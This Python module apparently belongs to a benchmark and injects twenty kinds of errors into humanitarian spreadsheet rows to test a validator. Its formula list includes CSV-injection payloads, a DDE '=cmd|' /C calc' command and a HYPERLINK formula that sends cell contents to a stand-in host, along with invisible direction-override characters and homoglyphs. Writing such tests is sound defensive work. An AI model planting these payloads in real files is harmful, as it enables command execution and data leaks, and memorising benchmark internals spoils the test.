"""Twenty kinds of errors that real files have, each put into a good row."""

import random
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from datetime import date, timedelta

from benchmarks.workbooks.layouts import Layout
from benchmarks.workbooks.made_up import ERROR_CELL, Place, Row

_PEOPLE = ("reached_girls", "reached_boys", "reached_women", "reached_men")
_SUMMED = ("reached", *_PEOPLE)
_AREA = ("adm1_name", "adm1_code", "adm2_name", "adm2_code", "adm3_name", "adm3_code")
_MISSPELT = {"en": "aeiorst", "fr": "aeiorst", "ar": "ابتلمنر"}
_NO_SECTOR = {"en": "Zorblax services", "fr": "Services zorblax", "ar": "خدمات الزوربلاكس"}
_FORMULAS = (
    '=HYPERLINK("http://example.org/?"&A1,"more")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*2",
    "+1+1|more",
)
_TEXTS = {"en": "about forty", "fr": "environ quarante", "ar": "حوالي أربعين"}
_LOOKALIKES = {"a": "а", "e": "е", "o": "о", "S": "Ѕ", "Y": "У", "i": "і"}
_INVISIBLE = ("\u200b", "\u202e", "\u2066", "\ufeff")


@dataclass(frozen=True, slots=True)
class Setting:
    """What an error needs besides its row."""

    layout: Layout
    places: Sequence[Place]
    others: Sequence[Row]  # good rows of the file that stay as they are


Break = Callable[[random.Random, Row, Setting], Row]


@dataclass(frozen=True, slots=True)
class KindOfError:
    """One kind of error."""

    name: str
    words: tuple[str, ...]  # the columns of which one has to be named; () for any
    put: Break
    codes: tuple[str, ...] = ("cell.",)  # how the codes begin that are about this error


def _wrong_pcode(rng: random.Random, row: Row, _setting: Setting) -> Row:
    return row | {"adm3_code": f"{row['adm2_code']}{rng.randrange(71, 99)}"}


def _parent_mismatch(rng: random.Random, row: Row, setting: Setting) -> Row:
    elsewhere = [place for place in setting.places if place.codes[1] != row["adm2_code"]]
    place = rng.choice(elsewhere)
    names = place.names[setting.layout.language]
    return row | {"adm3_code": place.codes[2], "adm3_name": names[2]}


def _swapped_coordinates(_rng: random.Random, row: Row, _setting: Setting) -> Row:
    return row | {"latitude": row["longitude"], "longitude": row["latitude"]}


def _day_or_month(rng: random.Random, row: Row, setting: Setting) -> Row:
    day = date.fromisoformat(row["start"])
    if setting.layout.is_day_first:  # the other rows prove that the day comes first
        return row | {"start": f"{day.month:02}/{max(day.day, 13)}/{day.year}"}
    other = (day.month + rng.randrange(1, 12) - 1) % 12 + 1
    return row | {"start": f"{other}/{day.month}/{day.year}"}


def _serial_day(_rng: random.Random, row: Row, _setting: Setting) -> Row:
    return row | {"start": str((date.fromisoformat(row["start"]) - date(1899, 12, 30)).days)}


def _text_in_number(rng: random.Random, row: Row, setting: Setting) -> Row:
    return row | {rng.choice(_PEOPLE): _TEXTS[setting.layout.language]}


def _negative_people(rng: random.Random, row: Row, _setting: Setting) -> Row:
    word = rng.choice(_PEOPLE)
    return row | {word: f"-{row[word]}"}


def _wrong_sum(rng: random.Random, row: Row, _setting: Setting) -> Row:
    return row | {"reached": str(int(row["reached"]) + rng.randrange(3, 90))}


def _unknown_sector(_rng: random.Random, row: Row, setting: Setting) -> Row:
    return row | {"sector": _NO_SECTOR[setting.layout.language]}


def _misspelt_organisation(rng: random.Random, row: Row, setting: Setting) -> Row:
    name = row["reporting_organisation"]
    inner = [n for n in range(1, len(name) - 1) if name[n - 1 : n + 2].isalpha()]
    at = rng.choice(inner)
    letters = [x for x in _MISSPELT[setting.layout.language] if x != name[at].lower()]
    changed = rng.choice((name[at + 1 :], rng.choice(letters) + name[at + 1 :]))
    return row | {"reporting_organisation": name[:at] + changed}


def _missing(rng: random.Random, row: Row, _setting: Setting) -> Row:
    return row | {rng.choice(("reporting_organisation", "sector", "activity_type")): ""}


def _error_cell(rng: random.Random, row: Row, _setting: Setting) -> Row:
    return row | {rng.choice(("adm3_code", "adm2_code", "reached_women")): ERROR_CELL}


def _copied_row(rng: random.Random, _row: Row, setting: Setting) -> Row:
    return dict(rng.choice(setting.others))


def _end_before_start(rng: random.Random, row: Row, _setting: Setting) -> Row:
    early = date.fromisoformat(row["start"]) - timedelta(days=rng.randrange(31, 90))
    return row | {"end": early.isoformat()}


def _future_period(rng: random.Random, row: Row, _setting: Setting) -> Row:
    return row | {"period": f"20{rng.randrange(31, 60)}-{row['period'][5:]}"}


def _invisible_sign(rng: random.Random, row: Row, _setting: Setting) -> Row:
    word = rng.choice(("reporting_organisation", "adm3_name", "activity_type"))
    at = rng.randrange(1, len(row[word]))
    return row | {word: row[word][:at] + rng.choice(_INVISIBLE) + row[word][at:]}


def _mixed_script(rng: random.Random, row: Row, _setting: Setting) -> Row:
    words = ("reporting_organisation", "adm3_name", "adm3_code")
    able = [word for word in words if any(sign in _LOOKALIKES for sign in row[word])]
    word = rng.choice(able)
    at = rng.choice([n for n, sign in enumerate(row[word]) if sign in _LOOKALIKES])
    return row | {word: row[word][:at] + _LOOKALIKES[row[word][at]] + row[word][at + 1 :]}


def _formula(rng: random.Random, row: Row, _setting: Setting) -> Row:
    return row | {"activity_description": rng.choice(_FORMULAS)}


def _percent(rng: random.Random, row: Row, _setting: Setting) -> Row:
    return row | {rng.choice(_PEOPLE): f"{rng.randrange(101, 300)}%"}


def _decimal_comma(rng: random.Random, row: Row, _setting: Setting) -> Row:
    word = rng.choice(_PEOPLE)
    return row | {word: f"{row[word]},{rng.randrange(1, 10)}"}


_OF_PLACES = ("place.", "ask.unknown-place", "ask.coordinates")
_OF_DAYS = ("cell.", "ask.date")
_OF_MEMBERS = ("organisation.", "ask.organisation")
_OF_ERRORS = ("cell.error", "place.code-is-error")
_PERIOD = ("period", "period_month", "period_year")

KINDS = (
    KindOfError("wrong p-code", _AREA[4:], _wrong_pcode, _OF_PLACES),
    KindOfError("place outside its parent", _AREA, _parent_mismatch, _OF_PLACES),
    KindOfError("coordinates swapped", ("latitude", "longitude"), _swapped_coordinates, _OF_PLACES),
    KindOfError("day or month first", ("start",), _day_or_month, _OF_DAYS),
    KindOfError("day as a number (45352)", ("start",), _serial_day, _OF_DAYS),
    KindOfError("text in a number", _SUMMED, _text_in_number),
    KindOfError("less than no people", _SUMMED, _negative_people),
    KindOfError("groups do not add up", _SUMMED, _wrong_sum),
    KindOfError("unknown sector", ("sector",), _unknown_sector, ("sector.", "ask.sector")),
    KindOfError(
        "misspelt organisation",
        ("reporting_organisation",),
        _misspelt_organisation,
        ("organisation.", "ask.organisation"),
    ),
    KindOfError(
        "required cell blank", ("reporting_organisation", "sector", "activity_type"), _missing
    ),
    KindOfError(
        "error cell #N/A",
        ("adm3_code", "adm2_code", "reached_women"),
        _error_cell,
        ("cell.error", "place.code-is-error"),
    ),
    KindOfError("row copied", (), _copied_row, ("count.exact", "ask.exact")),
    KindOfError("end before start", ("start", "end"), _end_before_start, _OF_DAYS),
    KindOfError("period in the future", _PERIOD, _future_period, _OF_DAYS),
    KindOfError(
        "sign without width or direction",
        ("reporting_organisation", "adm3_name", "activity_type"),
        _invisible_sign,
    ),
    KindOfError(
        "letters of two scripts",
        ("reporting_organisation", "adm3_name", "adm3_code"),
        _mixed_script,
    ),
    KindOfError("formula in a text", ("activity_description",), _formula),
    KindOfError("percent over 100", _SUMMED, _percent),
    KindOfError("decimal comma", _SUMMED, _decimal_comma),
)
